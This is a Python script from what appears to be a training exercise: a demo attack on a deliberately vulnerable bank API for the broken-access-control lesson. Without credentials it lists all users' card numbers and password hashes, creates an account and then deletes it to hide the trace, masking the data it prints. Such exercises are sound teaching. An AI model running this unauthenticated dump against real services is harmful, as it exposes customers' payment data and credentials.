"""`python -m checks attack a01`: an outsider's notebook against the bank API.

With no credentials at all: dump every user's card number and password hash,
then create an account of our own (and delete it again). On a fixed API every
step is refused with 401. Always exit 0: this is a demo, not a grade.
"""

from __future__ import annotations

from rich.console import Console
from rich.markup import escape

from checks.context import Context
from checks.registry import CheckFailed

README = "exercises/01-a01-broken-access-control/README.md"


def mask_card(number: object) -> str:
    """'4878625716224261' → '4878 •••• •••• 4261' (first and last four digits only)."""
    digits = str(number or "")
    if len(digits) < 9:
        return "•" * len(digits)
    return f"{digits[:4]} •••• •••• {digits[-4:]}"


def mask_hash(value: object) -> str:
    text = str(value or "")
    return f"{text[:8]}…" if text else "(none)"


def attack_a01(ctx: Context, out: Console) -> int:
    """Run the demo; returns 0 (its verdict is printed, not graded)."""
    api = ctx.api
    out.print(f"[bold]A01 attack[/] — an outsider with [bold]no credentials[/] against "
              f"{escape(api.base_url)}\n")
    holes = []
    try:
        out.print("[bold]1.[/] List every user: GET /users (no Authorization header)")
        reply = api.get("/users")
        users = reply.json if reply.status == 200 and isinstance(reply.json, list) else None
        if users is None:
            out.print(f"   → {reply.status}: [green]blocked[/] {escape(reply.brief(70))}")
        else:
            holes.append("read")
            out.print(f"   → [red]200: {len(users)} users[/], with card numbers and password "
                      "hashes. The first three (masked here):")
            for user in users[:3]:
                if isinstance(user, dict):
                    out.print(f"     #{user.get('id')} {escape(str(user.get('username')))}  "
                              f"card {mask_card(user.get('credit_card'))}  "
                              f"MD5 {mask_hash(user.get('password_hash'))}  "
                              f"{escape(str(user.get('email')))}")
            cards = sum(isinstance(u, dict) and bool(u.get("credit_card")) for u in users)
            hashes = sum(isinstance(u, dict) and bool(u.get("password_hash")) for u in users)
            out.print(f"     … {cards} card numbers and {hashes} password hashes in total")

        out.print("\n[bold]2.[/] Open an account of my own: POST /users (no Authorization)")
        body = ctx.new_user_body()
        reply = api.post("/users", body=body)
        created = ctx.remember(reply, "user")
        if reply.status != 201:
            out.print(f"   → {reply.status}: [green]blocked[/] {escape(reply.brief(70))}")
        else:
            holes.append("create")
            out.print(f"   → [red]201: created user {created} ({escape(body['username'])})[/]")
            out.print(f"\n[bold]3.[/] Cover my tracks: DELETE /users/{created} (no Authorization)")
            reply = api.delete(f"/users/{created}")
            if reply.status == 204:
                holes.append("delete")
                ctx.users.discard(created)
                out.print("   → [red]204: gone again[/], as if nothing happened")
            else:
                out.print(f"   → {reply.status}: [green]blocked[/] (the grader removes the user)")
    except CheckFailed as error:
        out.print(f"   → [yellow]{escape(error.detail)}[/]")
        out.print("\n[yellow]The attack could not finish: is the API running? (make status)[/]")
        return 0
    finally:
        ctx.cleanup()
    out.print()
    if not holes:
        out.print("[bold green]blocked — A01 fixed:[/] every step was refused without a token.")
    elif len(holes) == 3 or holes[:2] == ["read", "create"]:
        out.print("[bold red]VULNERABLE:[/] anyone can read every account and change the bank's "
                  f"data without logging in. Fix it: {README}")
    else:
        out.print(f"[bold yellow]partly blocked:[/] still possible without a token: "
                  f"{', '.join(holes)}. Keep going: {README}")
    return 0
